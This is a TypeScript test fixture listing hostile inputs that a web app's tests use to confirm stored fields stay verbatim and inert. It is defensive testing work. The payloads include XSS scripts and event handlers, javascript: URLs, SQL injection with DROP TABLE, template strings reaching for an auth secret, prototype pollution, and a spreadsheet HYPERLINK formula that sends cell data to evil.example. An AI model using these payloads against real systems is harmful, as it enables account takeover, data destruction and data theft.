// Hostile text that every stored-and-shown field must keep verbatim and show inert. Used by
// tests/hostile-input.test.ts (storage, through the real actions and JSON routes) and
// e2e/hostile-input.spec.ts (rendering). Scripts set window.__pwned or open a dialog if they ever run;
// injected elements carry data-pwned so the page can be searched for them.
// No leading or trailing whitespace: the forms trim their fields, by design.

export interface HostileInput {
  name: string;
  value: string;
  /** What is stored when it differs from the value: PostgreSQL text cannot hold U+0000, and a lone surrogate is not text. */
  stored?: string;
}

export const HOSTILE_INPUTS: HostileInput[] = [
  { name: "script element", value: `<script data-pwned>window.__pwned = "script"; alert("script")</script>` },
  { name: "image with onerror", value: `<img src="x" data-pwned onerror="window.__pwned = 'img'; alert('img')">` },
  { name: "svg with onload", value: `<svg data-pwned onload="window.__pwned = 'svg'"><circle r="5"/></svg>` },
  { name: "breaking out of an attribute and a textarea", value: `"'></textarea></title><b data-pwned onmouseover="alert('attr')">x</b>` },
  { name: "javascript: URL", value: "javascript:alert(document.cookie)" },
  { name: "data: URL", value: "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" },
  { name: "Markdown link to javascript:", value: "[click me](javascript:alert('md'))" },
  { name: "iframe", value: `<iframe data-pwned src="javascript:alert('iframe')"></iframe>` },
  { name: "HTML entities", value: "&lt;b&gt; &amp;amp; &#60;script&#62; &#x3C;" },
  { name: "SQL injection", value: `Robert'); DROP TABLE "Candidate"; --` },
  { name: "SQL tautology", value: `' OR '1'='1' /*` },
  { name: "template and format strings", value: "${process.env.NEXTAUTH_SECRET} {{7*7}} #{7*7} %s %n %x" },
  { name: "spreadsheet formula", value: `=HYPERLINK("https://evil.example/?"&A1,"open")` },
  { name: "control characters", value: "bell\u0007 escape\u001b[31mred\u001b[0m back\bspace\ttab\nnew line\rreturn\u007fdel" },
  { name: "NUL byte", value: "before\u0000after", stored: "beforeafter" },
  { name: "right-to-left override", value: "invoice\u202Egpj.exe and \u2067isolate\u2069 \u200Fmark" },
  { name: "zero-width characters", value: "ze\u200Bro\u200Cwidth\u200Djoin\u2060word\uFEFFbom" },
  { name: "Unicode line separators", value: "line\u2028separator\u2029paragraph\u0085next" },
  { name: "emoji and combining marks", value: "👩🏽‍💻 Zoë 🇳🇴 Z̷̢͙a̴̛l̵g̸o 𝕳𝖊𝖑𝖑𝖔 ﷽" },
  { name: "lone surrogate", value: "broken \uD800 pair", stored: "broken \uFFFD pair" },
  { name: "null", value: "null" },
  { name: "undefined", value: "undefined" },
  { name: "NaN", value: "NaN" },
  { name: "object", value: "[object Object]" },
  { name: "JSON", value: `{"__proto__":{"admin":true},"constructor":{"prototype":{}}}` },
  // Wider than a phone in any font: a page must wrap it, not scroll sideways (issue 16).
  { name: "one 100-letter word", value: "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch".repeat(2).slice(0, 100) },
];

/** `length` characters of varied text (a 4-byte emoji counts 2, as in JavaScript and HTML maxlength). */
export function longText(length: number) {
  const unit = "Lorem ipsum <b>dolor</b> sit amet 🚀 ";
  const text = unit.repeat(Math.ceil(length / unit.length)).slice(0, length - 1);
  // Never half an emoji, and never a space at the end, which the forms would trim away.
  return `${/[\uD800-\uDBFF]$/.test(text) ? `${text.slice(0, -1)}y` : text}x`;
}
